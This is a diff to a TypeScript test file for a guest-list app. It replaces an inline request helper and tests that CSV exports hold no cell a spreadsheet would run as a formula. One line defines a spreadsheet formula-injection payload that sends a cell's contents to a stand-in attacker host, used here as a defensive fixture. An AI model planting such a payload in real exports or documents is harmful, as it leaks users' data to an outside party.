@@ -32,8 +32,7 @@ function formulasWhenSplitOn(csvs: readonly Buffer[], separators: string): strin
 
 describe('every export, opened with any common separator', { skip }, () => {
   const t = useTestApp({ signedIn: true, site: guestListSite({ askTravel: true }) });
-  const as = (method: 'GET' | 'POST' | 'PUT' | 'PATCH', url: string, payload?: object) =>
-    t.app.inject({ method, url, headers: { cookie: t.cookie }, ...(payload && { payload }) });
+  const as = t.asCouple;
   const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")';
 
   test('holds no cell that a spreadsheet runs as a formula; a phone number is only ever its own quoted text', async () => {
